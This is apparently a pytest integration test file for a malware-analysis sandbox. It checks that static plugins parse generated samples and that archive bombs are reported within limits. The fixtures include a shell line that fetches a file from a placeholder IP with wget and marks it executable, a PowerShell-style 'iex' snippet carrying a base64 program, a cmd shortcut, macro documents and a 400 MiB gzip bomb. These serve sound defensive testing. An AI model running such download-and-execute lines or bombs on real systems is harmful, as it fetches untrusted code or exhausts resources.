"""The static plugins in the real sandbox, within the limits of their own manifests, on samples that the tests make."""

import gzip
from base64 import b64encode
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from malbox.sdk.testing import run_sandboxed
from tests.unit.plugins import (
    containers,
    office_files,
    pe_files,
    test_email,
    test_html,
    test_office,
    test_outlook,
    test_pdf,
    test_rtf,
    test_scripts,
    test_shortcuts,
)

pytestmark = pytest.mark.integration

BUILTIN = Path(__file__).parent.parent.parent / "services" / "plugins" / "builtin"
MIB = 1024 * 1024
PROGRAM = pe_files.Portable().build()
TWO = {"a.txt": b"one", "b.txt": b"two"}


def sandboxed(plugin: str, sample: bytes, tmp_path: Path) -> dict[str, Any]:
    """What the plugin that ships says of the sample, beside what it emits of it."""
    (tmp_path / "sample").write_bytes(sample)
    run = run_sandboxed(BUILTIN / plugin, tmp_path / "sample")
    assert (run.outcome, run.reason) == ("completed", ""), run.log
    said: dict[str, Any] = run.json(plugin)
    return said


SAMPLES: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "a ZIP": ("archives", lambda: containers.zipped(TWO), "children"),
    "a tar.gz": ("archives", lambda: containers.tarred(TWO, "w:gz"), "children"),
    "an encrypted 7z": ("archives", lambda: containers.seven_zipped(TWO, "infected"), "children"),
    "a Word document": ("office", lambda: test_office.docm(office_files.MACRO), "macros"),
    "an RTF document": ("rtf", lambda: test_rtf.embedded(test_rtf.packed("a.exe", "C:\\a.exe", b"MZ")), "children"),
    "a program in a program": (
        "pe",
        lambda: pe_files.Portable(overlay=PROGRAM).build(),
        "children",
    ),
    "a program behind a program": (
        "elf",
        lambda: Path("/usr/bin/true").read_bytes() + b"\x7fELF" + bytes(60),
        "children",
    ),
    "a script": ("scripts", test_scripts.LAYERED["PowerShell, gzip"][1].encode, "layers"),
    "a program in a script": (
        "scripts",
        f"$b='{b64encode(PROGRAM).decode()}'\n$c=1\niex x".encode,
        "children",
    ),
    "a PDF document": ("pdf", lambda: test_pdf.with_file("a.txt", b"hello"), "children"),
    "an encrypted PDF document": ("pdf", lambda: test_pdf.encrypted("infected"), "scripts"),
    "a shortcut": ("shortcuts", lambda: test_shortcuts.shortcut(test_shortcuts.CMD, "/c calc"), "traits"),
    "a page": ("html", lambda: test_html.SMUGGLED, "children"),
    "a script that downloads": (
        "yara",
        b"#!/bin/sh\nwget http://192.0.2.1/x -O /tmp/x\nchmod +x /tmp/x\n".strip,
        "matches",
    ),
    "a message": ("email", lambda: test_email.mail(("a.js", b"x")), "children"),
    "a message saved by Outlook": ("email", lambda: test_outlook.saved(p1009=test_outlook.RTF), "indicators"),
}
"""Name -> plugin, how its sample is made, and a key of the result that is not empty then."""


@pytest.mark.parametrize("name", SAMPLES)
def test_a_plugin_reads_its_sample_in_the_sandbox(name: str, tmp_path: Path) -> None:
    """Its libraries are found there, and what it says arrives."""
    plugin, make, key = SAMPLES[name]
    assert sandboxed(plugin, make(), tmp_path)[key]


@pytest.mark.promise("P38")
@pytest.mark.parametrize("make", [lambda: gzip.compress(bytes(400 * MIB)), lambda: containers.many(60_000)])
def test_a_bomb_is_reported_within_the_manifests_limits(make: Callable[[], bytes], tmp_path: Path) -> None:
    """Full budgets, real walls: the run completes and names the bound, it is not killed."""
    assert sandboxed("archives", make(), tmp_path)["exceeded"]
